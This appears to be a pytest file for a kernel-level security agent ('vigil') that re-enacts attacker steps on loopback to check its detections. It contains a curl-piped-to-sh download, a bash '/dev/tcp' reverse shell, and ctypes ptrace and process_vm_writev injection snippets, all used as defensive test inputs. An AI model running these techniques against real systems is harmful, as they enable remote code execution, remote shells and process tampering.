"""Detections fed live by the agent on this machine's kernel (marker ``agent``, root only).

GIVEN a running ``vigil-agent --stdout`` in each sensor mode (eBPF, eBPF in Python, audit alone),
WHEN this test re-enacts an attacker's step for real (loopback only), THEN the agent's events, decoded
by the wire contract and run through the detection engine, raise the expected finding type.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from agent_harness import RunningAgent, marker

from vigil import wire
from vigil.engine import Engine
from vigil.intel.builtin import builtin_intel
from vigil.normalize.agent import normalize_batch
from vigil.registry import all_detections
from vigil.state import InMemoryState

pytestmark = pytest.mark.agent


def _types(agent: RunningAgent, mine: Callable[[dict], bool]) -> dict[str, list]:
    """The finding types the engine raises on the agent's events that ``mine`` selects (the
    selection keeps other processes on the host out), with the events that raised each."""
    host_line = next(e for e in agent.all(lambda e: "host" in e))
    host = wire.decode_line(json.dumps(host_line).encode()).host
    events = [
        wire.decode_line(json.dumps(e).encode())
        for e in agent.all(lambda e: e["kind"] != "heartbeat" and mine(e))
    ]
    normalized, rejected = normalize_batch(events, default_host=host)
    assert rejected == []
    result = Engine(all_detections(), intel=builtin_intel()).run(normalized, InMemoryState())
    assert result.errors == []
    out: dict[str, list] = {}
    for m in result.matches:
        out.setdefault(m.detection.meta.type, []).append(m.event)
    return out


class _Script(http.server.BaseHTTPRequestHandler):
    body = b"exit 0\n"

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, format: str, *args: object) -> None:
        return None


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Script)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


def _wait_types(
    agent: RunningAgent, mine: Callable[[dict], bool], want: str, timeout: float = 20.0
) -> dict[str, list]:
    deadline = time.monotonic() + timeout
    while True:
        got = _types(agent, mine)
        if want in got or time.monotonic() > deadline:
            return got
        time.sleep(0.2)


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize("how", ["typed", "siblings"])
def test_curl_piped_into_sh_is_one_finding(agent: RunningAgent, web: int, how: str) -> None:
    """``curl URL | sh`` as a shell runs it (two children of one shell joined by a pipe), and as two
    processes a program joins itself (no command line shows both): one DownloadPipedToShell.

    Loopback answers at once, so curl and sh live a few milliseconds: on audit alone the agent reads
    their fds 0-2 when the proc connector announces each exec (procconn.ExecWatcher), with eBPF they
    come with the exec record."""
    url = f"http://127.0.0.1:{web}/{marker()}"
    if how == "typed":
        parent = subprocess.Popen(["/bin/bash", "-c", f"curl -s {url} | sh; true"])
        parent.wait(timeout=20)
        pids = {parent.pid}
        mine: Callable[[dict], bool] = lambda e: (e.get("process") or {}).get("ppid") in pids  # noqa: E731
    else:
        curl = subprocess.Popen(["curl", "-s", url], stdout=subprocess.PIPE)
        assert curl.stdout is not None
        sh = subprocess.Popen(["/bin/sh"], stdin=curl.stdout)
        curl.stdout.close()
        curl.wait(timeout=20)
        sh.wait(timeout=20)
        pids = {curl.pid, sh.pid}
        mine = lambda e: (e.get("process") or {}).get("pid") in pids  # noqa: E731
    got = _wait_types(
        agent, lambda e: e["kind"] == "process_exec" and mine(e), "Execution:Runtime/DownloadPipedToShell"
    )
    execs = agent.all(lambda e: e["kind"] == "process_exec" and mine(e))
    stdio = [(e["process"].get("name"), e["process"].get("stdin"), e["process"].get("stdout")) for e in execs]
    assert "Execution:Runtime/DownloadPipedToShell" in got, (sorted(got), stdio)
    assert len(got["Execution:Runtime/DownloadPipedToShell"]) == 1
    fired = got["Execution:Runtime/DownloadPipedToShell"][0].process
    assert fired.file.name in ("curl", "sh", "dash", "bash")
    # the children's execs only (bash -c's is not selected); a shell whose parent is python (this
    # test) is also a ShellEscape, which is right
    assert set(got) - {"Execution:Runtime/ShellEscape"} == {"Execution:Runtime/DownloadPipedToShell"}


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_to_a_file_then_sh_is_not_a_pipe_finding(agent: RunningAgent, web: int, tmp_path) -> None:
    out = tmp_path / "x.sh"
    parent = subprocess.Popen(
        [
            "/bin/bash",
            "-c",
            f"curl -s -o {out} http://127.0.0.1:{web}/{marker()}; sh {out} | grep -c . ; true",
        ],
        stdout=subprocess.DEVNULL,
    )
    parent.wait(timeout=20)
    pids = {parent.pid}
    agent.wait_for(
        lambda e: (
            e["kind"] == "process_exec"
            and (e.get("process") or {}).get("ppid") in pids
            and (e.get("process") or {}).get("name") == "grep"
        ),
        what="grep exec",
    )
    got = _types(
        agent, lambda e: e["kind"] == "process_exec" and (e.get("process") or {}).get("ppid") in pids
    )
    assert "Execution:Runtime/DownloadPipedToShell" not in got, got


# The GuardDuty tester's ptrace check (scenarios/runtime/ProcessInjection-Ptrace.sh), re-enacted
# without a compiler: a program forks, the child calls PTRACE_TRACEME and execs /bin/ls, the parent
# waits for the child's exec stop, reads its user area (PTRACE_PEEKUSER) and detaches.
_PTRACE_TESTER = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
child = os.fork()
if child == 0:
    libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
    os.execv("/bin/ls", ["ls", "/nonexistent-{m}"])
else:
    os.waitpid(child, 0)  # the exec stop
    libc.ptrace(3, child, None, None)  # PTRACE_PEEKUSER, offset 0
    libc.ptrace(17, child, None, None)  # PTRACE_DETACH
    os.waitpid(child, 0)
"""


def test_the_guardduty_testers_ptrace_check_is_process_injection(agent: RunningAgent, tmp_path: Path) -> None:
    """The tester expects DefenseEvasion:Runtime/ProcessInjection.Ptrace, not PtraceAntiDebugging.
    The tracer runs as its own program (a copy of the interpreter named like the tester's binary),
    so no debugger or test runner is its direct parent; the child's exec of ls is selected too."""
    exe = tmp_path / "ptrace"
    shutil.copy(os.path.realpath(sys.executable), exe)
    m = marker()
    tracer = subprocess.Popen([str(exe), "-c", _PTRACE_TESTER.format(m=m)], stderr=subprocess.DEVNULL)
    assert tracer.wait(timeout=20) == 0
    agent.wait_for(
        lambda e: (
            e["kind"] == "process_exec" and any(m in a for a in (e.get("process") or {}).get("args", []))
        ),
        what="the traced child's exec of ls",
    )
    ev = agent.wait_for(
        lambda e: (
            e["kind"] == "ptrace"
            and e.get("request") == "PTRACE_TRACEME"
            and (e.get("target") or {}).get("pid") == tracer.pid
        ),
        what="the child's PTRACE_TRACEME",
    )
    got = _types(
        agent,
        lambda e: (
            (e.get("process") or {}).get("ppid") == tracer.pid
            or (e.get("process") or {}).get("pid") == tracer.pid
        ),
    )
    assert set(got) == {"DefenseEvasion:Runtime/ProcessInjection.Ptrace"}, (sorted(got), ev)


def test_the_guardduty_testers_reverse_shell_is_caught(agent: RunningAgent, tmp_path: Path) -> None:
    """The tester's scenarios/runtime/ReverseShell.sh, re-enacted on loopback: a copy of bash named
    ``<date>-reverseShell`` runs ``-c "./<copy> -i >& /dev/tcp/127.0.0.1/PORT 0>&1"``; the listener
    sends one command and ``exit``, so the interactive shell lives a few milliseconds. It must be an
    Execution:Runtime/ReverseShell in every sensor mode (on audit alone the agent snapshots fds
    0-2 when the proc connector announces the exec, before the shell is gone)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    port = srv.getsockname()[1]

    def serve() -> None:
        conn, _ = srv.accept()
        conn.sendall(b"true; exit\n")
        conn.settimeout(10)
        with contextlib.suppress(OSError):
            while conn.recv(4096):
                pass
        conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    name = f"{int(time.time())}-reverseShell"
    copy = tmp_path / name
    shutil.copy("/bin/bash", copy)
    outer = subprocess.run(
        [f"./{name}", "-c", f"./{name} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
    )
    t.join(timeout=10)
    srv.close()
    assert outer.returncode == 0, outer.stderr
    agent.wait_for(
        lambda e: (
            e["kind"] == "process_exec"
            and (e.get("process") or {}).get("file", {}).get("name") == name
            and "-i" in (e.get("process") or {}).get("args", [])
        ),
        what="the interactive shell's exec",
    )
    got = _types(
        agent,
        lambda e: (
            e["kind"] == "process_exec" and (e.get("process") or {}).get("file", {}).get("name") == name
        ),
    )
    assert "Execution:Runtime/ReverseShell" in got, sorted(got)
    shells = [e.process for e in got["Execution:Runtime/ReverseShell"]]
    assert any(
        "-i" in p.args and p.stdin is not None and p.stdin.remote is not None and p.stdin.remote.port == port
        for p in shells
    )


# The GuardDuty tester's process_vm_writev check (scenarios/runtime/ProcessInjection-VirtualMemoryWrite.sh),
# re-enacted without a compiler: a program forks, the child execs /bin/ls, the parent reads and then
# writes the child's memory at an arbitrary address with process_vm_readv/_writev (the remote iovec
# count is 2 with one iovec, as in the tester: the calls may fail; an attempt is what counts).
_VMW_TESTER = """
import ctypes, os
class iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
for name in ("process_vm_readv", "process_vm_writev"):
    getattr(libc, name).argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
    getattr(libc, name).restype = ctypes.c_ssize_t
child = os.fork()
if child == 0:
    os.execv("/bin/ls", ["ls", "/nonexistent-{m}"])
buf = ctypes.create_string_buffer(128)
local = (iovec * 1)(iovec(ctypes.cast(buf, ctypes.c_void_p), 128))
remote = (iovec * 1)(iovec(0x5567fd9922a0, 128))
libc.process_vm_readv(child, ctypes.byref(local), 2, ctypes.byref(remote), 1, 0)
libc.process_vm_writev(child, ctypes.byref(local), 1, ctypes.byref(remote), 2, 0)
os.waitpid(child, 0)
"""


def test_the_guardduty_testers_process_vm_writev_check_is_virtual_memory_write(
    agent: RunningAgent, tmp_path: Path
) -> None:
    """The tester expects DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite for a
    process_vm_writev into its own child, whether the write succeeds or not."""
    exe = tmp_path / "vmRwTest"
    shutil.copy(os.path.realpath(sys.executable), exe)
    m = marker()
    writer = subprocess.Popen([str(exe), "-c", _VMW_TESTER.format(m=m)], stderr=subprocess.DEVNULL)
    assert writer.wait(timeout=20) == 0
    ev = agent.wait_for(
        lambda e: e["kind"] == "process_vm_write" and (e.get("process") or {}).get("pid") == writer.pid,
        what="the tester's process_vm_writev",
    )
    got = _types(agent, lambda e: (e.get("process") or {}).get("pid") == writer.pid)
    assert "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite" in got, (sorted(got), ev)
